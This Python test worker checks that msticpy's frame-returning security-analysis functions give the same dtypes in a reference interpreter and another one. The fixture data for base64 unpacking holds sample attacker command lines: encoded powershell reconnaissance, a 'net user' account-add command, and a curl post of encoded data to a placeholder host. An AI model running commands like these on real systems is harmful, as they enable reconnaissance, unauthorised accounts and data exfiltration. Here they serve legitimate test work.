"""
Dtype parity worker: the column and index dtypes of msticpy's frame-returning calls.

Run by ``test_dtype_parity.py`` in the reference interpreter (msticpy 3.0.2) and in ours,
so one script makes the same calls on the same generated inputs on both sides. Reads
``{"seed": int, "rows": int}`` as JSON on stdin; writes ``{"msticpy_version": ...,
"pandas": ..., "results": {call: {"columns": [[name, dtype], ...], "index": dtype} or
{"error": exception name}}}``.
"""

from __future__ import annotations

import contextlib
import io
import json
import sys
import tempfile
import warnings
from pathlib import Path
from typing import Any

warnings.simplefilter("ignore")
sys.path.insert(0, str(Path(__file__).resolve().parent))


def _dtypes(frame: Any) -> dict[str, Any]:
    return {
        "columns": [[str(name), str(dtype)] for name, dtype in frame.dtypes.items()],
        "index": str(frame.index.dtype),
    }


def _call(function: Any) -> dict[str, Any]:
    try:
        return _dtypes(function())
    except Exception as exc:  # the exception name is the result
        return {"error": type(exc).__name__}


def _b64_texts() -> list[str]:
    """Command lines with base64 text, a base64 zip archive and none at all."""
    import base64
    import io
    import zipfile

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr(zipfile.ZipInfo("a.txt", (2024, 5, 1, 8, 0, 0)), "net user bob /add")
    return [
        "powershell -enc " + base64.b64encode(b"whoami /all; ipconfig").decode(),
        "no base64 here",
        "curl -d " + base64.b64encode(archive.getvalue()).decode() + " http://x",
    ]


def _audit_frame(seed: int, rows: int) -> Any:
    from auditd_generate import generate_audit_log

    from msticpy.transform import auditdextract

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "audit.log"
        path.write_text("\n".join(generate_audit_log(seed, rows)) + "\n", encoding="utf-8")
        return auditdextract.read_from_file(str(path))


def run(seed: int, rows: int) -> dict[str, Any]:
    """Every call's dtypes (or its exception's name)."""
    import pandas as pd
    from generate import generate_strings
    from proctree_generate import generate_events

    from msticpy.analysis import syslog_utils
    from msticpy.analysis.eventcluster import add_process_features, dbcluster_events
    from msticpy.transform import base64unpack
    from msticpy.transform.iocextract import IoCExtract
    from msticpy.transform.proc_tree_builder import build_process_tree

    out: dict[str, Any] = {}
    texts = pd.DataFrame({"t": generate_strings(rows, seed)})
    out["IoCExtract.extract_df"] = _call(lambda: IoCExtract().extract_df(texts, ["t"]))
    blobs = pd.DataFrame({"cmd": _b64_texts()})
    out["unpack_df"] = _call(lambda: base64unpack.unpack_df(blobs, "cmd"))
    # seed 1: generated logs with other seeds or sizes can hit msticpy's own failures
    out["read_from_file (auditd)"] = _call(lambda: _audit_frame(1, rows))
    for family in ("windows", "linux"):
        events = pd.DataFrame(generate_events(rows, seed=seed, os_family=family))
        events["TimeGenerated"] = pd.to_datetime(events["TimeGenerated"])
        out[f"build_process_tree ({family})"] = _call(lambda e=events: build_process_tree(e))
    windows = pd.DataFrame(generate_events(rows, seed=seed, os_family="windows"))
    windows["TimeGenerated"] = pd.to_datetime(windows["TimeGenerated"])
    features = add_process_features(input_frame=windows)
    out["add_process_features"] = _dtypes(features)
    out["dbcluster_events"] = _call(
        lambda: dbcluster_events(
            data=features.assign(TimeCreatedUtc=windows["TimeGenerated"]),
            cluster_columns=["commandlineTokensFull", "pathScore", "isSystemSession"],
            max_cluster_distance=0.0001,
        )[0]
    )
    opened = "pam_unix(sudo:session): session opened for user root"
    closed = "pam_unix(sudo:session): session closed for user root"
    logons = pd.DataFrame(
        {
            "TimeGenerated": pd.to_datetime(["2024-05-01T08:00:00", "2024-05-01T08:07:00"]),
            "SyslogMessage": [opened, closed],
            "Sudoer": ["alice", "alice"],
        }
    )
    out["cluster_syslog_logons_df"] = _call(lambda: syslog_utils.cluster_syslog_logons_df(logons))
    return out


def main() -> int:
    import pandas as pd

    import msticpy

    request = json.load(sys.stdin)
    with contextlib.redirect_stdout(io.StringIO()):  # msticpy prints timings
        results = run(int(request["seed"]), int(request["rows"]))
    json.dump(
        {"msticpy_version": msticpy.__version__, "pandas": pd.__version__, "results": results},
        sys.stdout,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
